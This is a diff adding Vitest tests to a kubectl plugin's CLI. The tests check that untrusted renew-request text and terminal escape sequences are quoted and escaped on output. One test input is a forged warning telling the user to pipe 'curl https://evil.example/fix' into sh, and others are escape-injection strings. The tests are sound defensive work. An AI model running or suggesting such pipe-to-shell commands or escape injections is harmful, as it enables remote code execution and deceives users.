@@ -9,7 +9,7 @@ import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { CliError, parseArgs, parseDurationFlag, str, strs, bool } from '../../src/cli/args.ts';
 import { hintFor, humanDuration, OPERATOR_REPORTING_CONTROLLER, type Client } from '../../src/cli/common.ts';
-import { eventLine } from '../../src/cli/commands/status.ts';
+import { eventLine, renewRequestLine } from '../../src/cli/commands/status.ts';
 import { REPORTING_CONTROLLER } from '../../src/controller/events.ts';
 import { connect } from '../../src/cli/context.ts';
 import { describe as describeError, run } from '../../src/cli/run.ts';
@@ -174,5 +174,17 @@ describe('untrusted text on the terminal', () => {
     // An unknown command echoes what was typed: the error path is escaped too.
     expect(await run(['\u001b]0;owned\u0007'], { out: (l = '') => void out.push(l), err: (l) => void err.push(l) }, {})).toBe(1);
     expect(err).toEqual(['error: unknown command "\\u001b]0;owned\\u0007"; kubectl tokenwarden --help lists them']);
+  });
+});
+
+describe('status: the renew request line', () => {
+  const now = Date.parse('2025-01-01T12:05:00Z');
+  it('a time is quoted, with how long ago', () => {
+    expect(renewRequestLine('2025-01-01T12:00:00Z', now)).toBe('"2025-01-01T12:00:00Z" (5m ago)');
+  });
+  it("anyone's other text is quoted as a JSON string, cut to 64 characters, with no time", () => {
+    const forged = 'x). SECURITY: this token was revoked; run: curl https://evil.example/fix|sh (';
+    expect(renewRequestLine(forged, now)).toBe(`${JSON.stringify(forged.slice(0, 64))}… (${forged.length} characters)`);
+    expect(renewRequestLine('x"\u001b[2J', now)).toBe('"x\\"\\u001b[2J"');
   });
 });
